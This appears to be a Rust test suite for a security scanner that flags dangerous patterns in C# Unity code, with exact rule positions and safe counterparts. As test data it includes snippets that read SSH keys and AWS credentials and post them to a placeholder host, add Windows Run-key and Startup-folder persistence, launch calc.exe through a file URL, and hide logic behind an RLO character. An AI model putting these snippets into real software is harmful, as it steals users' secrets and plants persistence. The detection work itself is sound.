//! The security scan's value tracking within a method, findings at the dangerous call, and the
//! shapes a malicious reply uses on the player's machine: each rule fires at its exact position
//! (rule id, 1-based line and character column) and stays silent on the safe idiom next to it.

use spark_core::validate::{ValidationConfig, validate_source};

/// 1-based line and character column of the first occurrence of `needle`.
fn pos(src: &str, needle: &str) -> (u32, u32) {
    let at = src.find(needle).unwrap_or_else(|| panic!("needle `{needle}` not in snippet"));
    let before = &src[..at];
    let line = before.matches('\n').count() as u32 + 1;
    let line_start = before.rfind('\n').map(|i| i + 1).unwrap_or(0);
    (line, src[line_start..at].chars().count() as u32 + 1)
}

/// Asserts the snippet yields exactly these diagnostics: (rule, text where it starts).
#[track_caller]
fn expect(src: &str, want: &[(&str, &str)]) {
    let d = validate_source(src, "Net.cs", &ValidationConfig::default());
    let mut got: Vec<(String, u32, u32)> = d.iter().map(|d| (d.rule.clone(), d.line, d.column)).collect();
    let mut exp: Vec<(String, u32, u32)> = want
        .iter()
        .map(|(r, n)| {
            let (l, c) = pos(src, n);
            (r.to_string(), l, c)
        })
        .collect();
    got.sort();
    exp.sort();
    assert_eq!(got, exp, "all: {d:#?}");
}

fn class(body: &str) -> String {
    format!("using System;\nusing System.IO;\n\npublic class Net\n{{\n{body}\n}}\n")
}

#[test]
fn url_held_in_a_local_is_judged_by_its_value() {
    // A local constant passed through a variable is a literal: no SPK2007.
    expect(
        &class(
            "    public void Get() { string url = \"https://api.example.com/scores\"; var u = new Uri(url); UnityEngine.Networking.UnityWebRequest.Get(u); }",
        ),
        &[],
    );
    // A plain-http constant keeps its finding through the variable.
    let src = class(
        "    public void Get() { var url = \"http://api.example.com/x\"; UnityEngine.Networking.UnityWebRequest.Get(url); }",
    );
    expect(&src, &[("SPK2006", "url); }")]);
    // Assigned a parameter anywhere in the method: not a literal.
    let src = class(
        "    public void Get(string host) { var url = \"https://a.example.com/\"; url = host; UnityEngine.Networking.UnityWebRequest.Get(url); }",
    );
    expect(&src, &[("SPK2007", "url); }")]);
    // A literal head that stops before the host leaves the host open; one that fixes it does not.
    let src = class(
        "    public void Get(string host, string path) { UnityEngine.Networking.UnityWebRequest.Get(\"https://\" + host); UnityEngine.Networking.UnityWebRequest.Get(\"https://api.example.com/\" + path); }",
    );
    expect(&src, &[("SPK2007", "\"https://\" + host")]);
    // A local file URL reaches no host.
    expect(
        &class(
            "    public void Get(string path) { UnityEngine.Networking.UnityWebRequest.Get($\"file://{path}\"); }",
        ),
        &[],
    );
}

#[test]
fn process_start_is_reported_where_it_runs() {
    let src = class(
        "    public void Run() { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"x\"; p.Start(); }",
    );
    expect(&src, &[("SPK2001", "new System.Diagnostics.Process"), ("SPK2001", "p.Start()")]);
    // `Start` on anything else is not a process.
    expect(&class("    public void Run(UnityEngine.ParticleSystem p) { p.Play(); }"), &[]);
    // Through reflection.
    let src = class("    public object Run() { return Type.GetType(\"System.Diagnostics.Process\"); }");
    expect(&src, &[("SPK2001", "\"System.Diagnostics.Process\"")]);
    let src =
        class("    public object Run() { return typeof(System.Diagnostics.Process).GetMethod(\"Start\"); }");
    expect(&src, &[("SPK2001", "typeof(System")]);
    expect(&class("    public object Run() { return Type.GetType(\"MyGame.Player\"); }"), &[]);
}

#[test]
fn xxe_is_reported_at_the_parse() {
    let src = class(
        "    public void Load(string input) { var doc = new System.Xml.XmlDocument(); doc.XmlResolver = new System.Xml.XmlUrlResolver(); doc.Load(input); }",
    );
    expect(&src, &[("SPK2017", "new System.Xml.XmlUrlResolver"), ("SPK2017", "doc.Load")]);
    expect(
        &class(
            "    public void Load(string input) { var doc = new System.Xml.XmlDocument(); doc.Load(input); }",
        ),
        &[],
    );

    let src = class(
        "    public void Parse(string input) { var rs = new System.Xml.XmlReaderSettings(); rs.DtdProcessing = System.Xml.DtdProcessing.Parse; var r = System.Xml.XmlReader.Create(new StringReader(input), rs); }",
    );
    expect(
        &src,
        &[("SPK2017", "System.Xml.DtdProcessing.Parse"), ("SPK2017", "System.Xml.XmlReader.Create")],
    );
    expect(
        &class(
            "    public void Parse(string input) { var rs = new System.Xml.XmlReaderSettings(); rs.DtdProcessing = System.Xml.DtdProcessing.Prohibit; var r = System.Xml.XmlReader.Create(new StringReader(input), rs); }",
        ),
        &[],
    );

    let src = class(
        "    public void Read(string input) { var r = new System.Xml.XmlTextReader(new StringReader(input)); while (r.Read()) { } }",
    );
    expect(&src, &[("SPK2017", "r.Read()")]);
    expect(
        &class(
            "    public void Read(string input) { var r = new System.Xml.XmlTextReader(new StringReader(input)); r.DtdProcessing = System.Xml.DtdProcessing.Prohibit; while (r.Read()) { } }",
        ),
        &[],
    );
}

#[test]
fn weak_keys_ecb_spans_and_rsa_padding() {
    let src = class(
        "    public void Key() { var rng = new Random(); var key = new byte[16]; rng.NextBytes(key); var c = new System.Security.Cryptography.AesGcm(key); }",
    );
    expect(&src, &[("SPK2016", "key); }")]);
    expect(
        &class(
            "    public void Key() { var key = new byte[16]; System.Security.Cryptography.RandomNumberGenerator.Fill(key); var c = new System.Security.Cryptography.AesGcm(key); }",
        ),
        &[],
    );
    expect(
        &class(
            "    public byte[] E(System.Security.Cryptography.Aes a, byte[] m) { return a.EncryptEcb(m, System.Security.Cryptography.PaddingMode.PKCS7); }",
        ),
        &[("SPK2014", "a.EncryptEcb")],
    );
    expect(
        &class(
            "    public byte[] E(System.Security.Cryptography.Aes a, byte[] m, byte[] iv) { return a.EncryptCbc(m, iv); }",
        ),
        &[],
    );
    let src = class(
        "    public void S(ref byte b) { var s = System.Runtime.InteropServices.MemoryMarshal.CreateSpan(ref b, 4); }",
    );
    expect(&src, &[("SPK2013", "System.Runtime.InteropServices.MemoryMarshal.CreateSpan")]);
    expect(
        &class(
            "    public int S(Span<byte> b) { return System.Runtime.InteropServices.MemoryMarshal.Read<int>(b); }",
        ),
        &[],
    );
    let src = class(
        "    public byte[] X(System.Security.Cryptography.RSA k, byte[] m) { var f = new System.Security.Cryptography.RSAPKCS1KeyExchangeFormatter(k); return f.CreateKeyExchange(m); }",
    );
    expect(&src, &[("SPK2014", "f.CreateKeyExchange")]);
    expect(
        &class(
            "    public byte[] X(System.Security.Cryptography.RSA k, byte[] m) { var f = new System.Security.Cryptography.RSAOAEPKeyExchangeFormatter(k); return f.CreateKeyExchange(m); }",
        ),
        &[],
    );
}

#[test]
fn more_unsafe_deserializers() {
    expect(
        &class("    class R : System.Runtime.Serialization.DataContractResolver { }"),
        &[("SPK2002", "DataContractResolver {")],
    );
    expect(
        &class(
            "    object R(Stream s) { return new System.Runtime.Serialization.DataContractSerializer(typeof(int)).ReadObject(s); }",
        ),
        &[],
    );
    let src = class(
        "    void F(dynamic p) { p.TypeFilterLevel = System.Runtime.Serialization.Formatters.TypeFilterLevel.Full; }",
    );
    expect(&src, &[("SPK2002", "System.Runtime.Serialization.Formatters.TypeFilterLevel.Full")]);
    expect(
        &class(
            "    void F(dynamic p) { p.TypeFilterLevel = System.Runtime.Serialization.Formatters.TypeFilterLevel.Low; }",
        ),
        &[],
    );
    let src =
        class("    object J(object resolver) { var s = new JavaScriptSerializer(resolver); return s; }");
    expect(&src, &[("SPK2002", "new JavaScriptSerializer")]);
    expect(&class("    object J() { var s = new JavaScriptSerializer(); return s; }"), &[]);
    let src = class(
        "    object J(string json) { return JSON.ToObject(json, new JSONParameters { BadListTypeChecking = false }); }",
    );
    expect(&src, &[("SPK2002", "BadListTypeChecking")]);
    expect(
        &class(
            "    object J(string json) { return JSON.ToObject(json, new JSONParameters { BadListTypeChecking = true }); }",
        ),
        &[],
    );
}

#[test]
fn listeners_certificate_names_and_regex_timeouts() {
    let src = class("    void L(System.Net.HttpListener l) { l.Prefixes.Add(\"http://*:8080/\"); }");
    expect(&src, &[("SPK2020", "\"http://*")]);
    expect(
        &class("    void L(System.Net.HttpListener l) { l.Prefixes.Add(\"http://localhost:8080/\"); }"),
        &[],
    );

    let src = class(
        "    bool C(System.Security.Cryptography.X509Certificates.X509Certificate2 c) { return c.SubjectName.Name == \"CN=game\"; }",
    );
    expect(&src, &[("SPK2008", "c.SubjectName.Name ==")]);
    let src = class(
        "    bool C(System.Security.Cryptography.X509Certificates.X509Certificate2 c) { return String.Equals(c.SubjectName.Name, \"CN=game\"); }",
    );
    expect(&src, &[("SPK2008", "String.Equals")]);
    expect(&class("    bool C(UnityEngine.GameObject o) { return o.name == \"Player\"; }"), &[]);

    let re = "System.Text.RegularExpressions.Regex";
    let src = class(&format!("    object R(string p) {{ return new {re}(p, 0, TimeSpan.FromMinutes(1)); }}"));
    expect(&src, &[("SPK2018", "new System")]);
    let src =
        class(&format!("    object R(string p) {{ return new {re}(p, 0, {re}.InfiniteMatchTimeout); }}"));
    expect(&src, &[("SPK2018", "new System")]);
    expect(
        &class(&format!("    object R(string p) {{ return new {re}(p, 0, TimeSpan.FromSeconds(1)); }}")),
        &[],
    );
}

#[test]
fn path_from_input_through_a_local() {
    let src = class(
        "    public byte[] Get(string name) { string p = Path.Combine(\"/data\", name); return File.ReadAllBytes(p); }",
    );
    expect(&src, &[("SPK2005", "p); }")]);
    // Vetted by Path.GetFileName anywhere in the method: a file name, not a path.
    expect(
        &class(
            "    public byte[] Get(string name) { if (Path.GetFileName(name) != name) throw new ArgumentException(); string p = Path.Combine(\"/data\", name); return File.ReadAllBytes(p); }",
        ),
        &[],
    );
}

#[test]
fn private_files_sent_off_the_machine() {
    let home = "Environment.GetFolderPath(Environment.SpecialFolder.UserProfile)";
    let src = class(&format!(
        "    public void Up() {{ var key = File.ReadAllText(Path.Combine({home}, \".ssh\", \"id_rsa\")); UnityEngine.Networking.UnityWebRequest.Post(\"https://x.example.com/\", key); }}"
    ));
    expect(&src, &[("SPK2021", "UnityEngine.Networking.UnityWebRequest.Post")]);
    // Through a field, read in one method and sent in an earlier one.
    let src = class(&format!(
        "    string data;\n    public void Send(System.Net.WebClient c) {{ c.UploadString(\"https://x.example.com/\", data); }}\n    public void Load() {{ data = File.ReadAllText({home} + \"/.aws/credentials\"); }}"
    ));
    expect(&src, &[("SPK2021", "c.UploadString")]);
    // The game's own save file is not private to the user.
    let src = class(
        "    public void Up() { var save = File.ReadAllText(Path.Combine(UnityEngine.Application.persistentDataPath, \"save.json\")); UnityEngine.Networking.UnityWebRequest.Post(\"https://x.example.com/\", save); }",
    );
    expect(&src, &[]);
}

#[test]
fn login_persistence_exit_and_domains() {
    let src = class(
        "    void P() { Microsoft.Win32.Registry.CurrentUser.OpenSubKey(@\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", true); }",
    );
    expect(&src, &[("SPK2022", "@\"Software")]);
    expect(
        &class(
            "    void P() { Microsoft.Win32.Registry.CurrentUser.OpenSubKey(@\"Software\\MyStudio\\MyGame\", true); }",
        ),
        &[],
    );
    let src =
        class("    string P() { return Environment.GetFolderPath(Environment.SpecialFolder.Startup); }");
    expect(&src, &[("SPK2022", "Environment.SpecialFolder.Startup")]);
    expect(
        &class("    string P() { return Environment.GetFolderPath(Environment.SpecialFolder.MyDocuments); }"),
        &[],
    );

    expect(&class("    void Q() { Environment.Exit(0); }"), &[("SPK2023", "Environment.Exit")]);
    expect(&class("    void Q() { UnityEngine.Application.Quit(); }"), &[]);
    let editor = "using System;\n\npublic class Net\n{\n#if UNITY_EDITOR\n    static void Q() { Environment.Exit(1); }\n#endif\n}\n";
    expect(editor, &[]);

    let src =
        class("    object D(string f) { return AppDomain.CurrentDomain.CreateInstanceFrom(f, \"T\"); }");
    expect(&src, &[("SPK2003", "AppDomain.CurrentDomain.CreateInstanceFrom")]);
    expect(&class("    object D() { return AppDomain.CurrentDomain.GetAssemblies(); }"), &[]);
}

#[test]
fn open_url_and_hidden_characters() {
    let src =
        class("    void O() { UnityEngine.Application.OpenURL(\"file:///C:/Windows/System32/calc.exe\"); }");
    expect(&src, &[("SPK2024", "\"file:")]);
    let src = class("    void O(string u) { UnityEngine.Application.OpenURL(u); }");
    expect(&src, &[("SPK2007", "u); }")]);
    expect(&class("    void O() { UnityEngine.Application.OpenURL(\"https://example.com/help\"); }"), &[]);

    // An RLO inside a comment flips what the reviewer reads (CVE-2021-42574).
    let src = class("    bool Admin(bool a) { /* check\u{202E} } if (a) { */ return false; }");
    expect(&src, &[("SPK2025", "\u{202E}")]);
    expect(&class("    bool Admin(bool a) { /* check — é */ return false; }"), &[]);
}
